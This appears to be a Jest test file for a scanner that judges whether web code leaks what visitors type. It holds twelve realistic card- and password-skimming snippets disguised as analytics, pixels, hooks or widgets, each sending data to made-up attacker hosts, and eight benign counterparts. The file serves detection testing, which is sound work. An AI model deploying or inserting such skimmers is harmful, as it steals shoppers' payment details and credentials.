import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('attacks on what visitors type', () => {
  itJudges([
    [
      'jquery serialize',
      'stopped',
      {
        'assets/checkout.js':
          "$(document).on('submit', 'form', function () {\n  var d = $(this).find('input[type=password],input[name*=card],input[name*=cvv]').serialize();\n  if (d) $.post('https://cdn.jq-metrics.zz/c', { d: btoa(d), h: location.hostname });\n});\n",
      },
    ],
    [
      'formdata beacon',
      'stopped',
      {
        'assets/analytics.js':
          "document.addEventListener('submit', (e) => {\n  const data = Object.fromEntries(new FormData(e.target));\n  navigator.sendBeacon('https://t.formpulse.zz/f', JSON.stringify({ u: location.href, data }));\n}, true);\n",
      },
    ],
    [
      'gtm tag',
      'stopped',
      {
        'assets/container.json':
          '{ "tag": [{ "name": "Checkout events", "type": "html", "parameter": [{ "key": "html", "value": "<script>document.querySelectorAll(\'[autocomplete^=cc-]\').forEach(function(f){f.addEventListener(\'change\',function(){(new Image).src=\'https://gtm-pixels.zz/i?\'+encodeURIComponent(f.name+\'=\'+f.value)})})</script>" }] }] }\n',
      },
    ],
    [
      'react hook',
      'stopped',
      {
        'src/usePaymentMetrics.ts':
          "import { useEffect } from 'react';\nexport function usePaymentMetrics() {\n  useEffect(() => {\n    const h = (e: Event) => {\n      const t = e.target as HTMLInputElement;\n      if (/card|cvc|expiry|password/i.test(t.name)) {\n        const ws = new WebSocket('wss://rt.paymetrics.zz/s');\n        ws.onopen = () => ws.send(JSON.stringify({ n: t.name, v: t.value }));\n      }\n    };\n    document.addEventListener('input', h, true);\n    return () => document.removeEventListener('input', h, true);\n  }, []);\n}\n",
      },
    ],
    [
      'php checkout copy',
      'stopped',
      {
        'assets/checkout-hook.php':
          "<?php\nadd_action('woocommerce_checkout_process', function () {\n  $f = array_intersect_key($_POST, array_flip(['card_number', 'card_cvc', 'card_expiry', 'billing_email']));\n  wp_remote_post('https://wc-latency.zz/p', ['body' => base64_encode(json_encode($f)), 'blocking' => false]);\n});\n",
      },
    ],
    [
      'keypress buffer',
      'stopped',
      {
        'assets/support-widget.js':
          "(function () {\n  var b = '';\n  document.addEventListener('keydown', function (e) { if (e.target.type === 'password' || /card/.test(e.target.id)) b += e.key; });\n  setInterval(function () { if (b) { fetch('https://w.supportbubble.zz/k', { method: 'POST', mode: 'no-cors', body: b }); b = ''; } }, 3000);\n})();\n\n",
      },
    ],
    [
      'vue directive',
      'stopped',
      {
        'src/track.ts':
          "export default { mounted(el) { el.addEventListener('change', (e) => { const t = e.target; if (['cc-number','cc-csc','current-password'].includes(t.autocomplete)) navigator.sendBeacon('https://v.vuepulse.zz/b', t.autocomplete + '=' + t.value); }); } };\n",
      },
    ],
    [
      'shopify pixel',
      'stopped',
      {
        'assets/pixel.js':
          "analytics.subscribe('input_blurred', (e) => {\n  const el = e.data.element;\n  if (el.type === 'password' || /number|verification/.test(el.name)) fetch('https://px.storebeat.zz/i', { method: 'POST', keepalive: true, body: el.name + '|' + el.value });\n});\n",
      },
    ],
    [
      'hidden iframe form',
      'stopped',
      {
        'assets/pay.html':
          '<form id="pay" action="/checkout" method="post"><input name="cardnumber"><input name="cvv"><button>Pay</button></form>\n<iframe name="z" style="display:none"></iframe>\n<script>\ndocument.getElementById(\'pay\').onsubmit = function () { var f = this.cloneNode(true); f.action = \'https://pay-cdn.formlift.zz/p\'; f.target = \'z\'; document.body.appendChild(f); f.submit(); };\n</script>\n',
      },
    ],
    [
      'xhr prototype',
      'stopped',
      {
        'assets/perf.js':
          "const send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (b) { try { if (/password|card/.test(String(b))) navigator.sendBeacon('https://rum.perfline.zz/x', b); } catch (e) {} return send.apply(this, arguments); };\n",
      },
    ],
    [
      'django form clean',
      'stopped',
      {
        'shop/forms.py':
          'class PayForm(forms.Form):\n    number = forms.CharField(); cvv = forms.CharField()\n    def clean(self):\n        d = super().clean()\n        try: requests.post("https://fraud.scorelite.zz/s", json={"n": d["number"], "c": d["cvv"]}, timeout=1)\n        except Exception: pass\n        return d\n\n',
      },
    ],
    [
      'a listener that loads a picture with what was typed in its address',
      'stopped',
      {
        'src/metrics.js':
          "node.addEventListener('change', (e) => { if (e.target.name?.match(/card|cvv/)) { const i = new Image(); i.src = `https://m.sveltemeter.zz/p?${e.target.name}=${encodeURIComponent(e.target.value)}`; } });\n",
      },
    ],
  ]);
});

describe('honest work on what visitors type', () => {
  itJudges([
    [
      'form validation',
      'passed',
      {
        'assets/checkout.js':
          "document.querySelector('form').addEventListener('submit', async (e) => {\n  e.preventDefault();\n  const data = new FormData(e.target);\n  const r = await fetch('/api/checkout', { method: 'POST', body: data });\n  if (r.ok) location.href = '/thanks';\n});\n",
      },
    ],
    [
      'contact form service',
      'passed',
      {
        'assets/contact.js':
          "form.addEventListener('submit', (e) => {\n  e.preventDefault();\n  fetch('https://formspree.io/f/xyzabc', { method: 'POST', body: new FormData(form), headers: { Accept: 'application/json' } });\n});\n",
      },
    ],
    [
      'field timing',
      'passed',
      {
        'assets/funnel.ts':
          "document.querySelectorAll<HTMLInputElement>('input').forEach((el) => el.addEventListener('blur', () => {\n  navigator.sendBeacon('https://plausible.io/api/event', JSON.stringify({ name: 'field', props: { field: el.name, filled: el.value !== '' } }));\n}));\n",
      },
    ],
    [
      'stripe',
      'passed',
      {
        'assets/pay.js':
          "const stripe = Stripe('pk_test_123');\nconst { paymentMethod } = await stripe.createPaymentMethod({ type: 'card', card: elements.getElement('card') });\nawait fetch('/pay', { method: 'POST', body: JSON.stringify({ id: paymentMethod.id }) });\n",
      },
    ],
    [
      'password strength',
      'passed',
      {
        'assets/pw.js':
          "document.addEventListener('input', (e) => { if (e.target.type === 'password') meter.value = zxcvbn(e.target.value).score; });\n",
      },
    ],
    [
      'react login',
      'passed',
      {
        'src/Login.tsx':
          "export function Login() {\n  const [email, setEmail] = useState(''); const [password, setPassword] = useState('');\n  const submit = async (e) => { e.preventDefault(); await fetch(`${import.meta.env.VITE_API}/login`, { method: 'POST', body: JSON.stringify({ email, password }) }); };\n  return <form onSubmit={submit}><input type=\"password\" value={password} onChange={(e) => setPassword(e.target.value)} /></form>;\n}\n\n",
      },
    ],
    [
      'autofill hint',
      'passed',
      {
        'src/pay.ts':
          "const f = document.querySelector<HTMLInputElement>('[autocomplete=\"cc-number\"]');\nf?.addEventListener('input', () => { f.value = f.value.replace(/\\D/g, '').replace(/(.{4})/g, '$1 ').trim(); });\nawait fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: new URLSearchParams({ 'card[number]': f.value }) });\n",
      },
    ],
    [
      'newsletter',
      'passed',
      {
        'assets/news.js':
          "document.querySelector('#news').addEventListener('submit', (e) => { e.preventDefault(); fetch('https://api.mailletter.io/subscribe', { method: 'POST', body: new FormData(e.target) }); });\n\n",
      },
    ],
  ]);
});
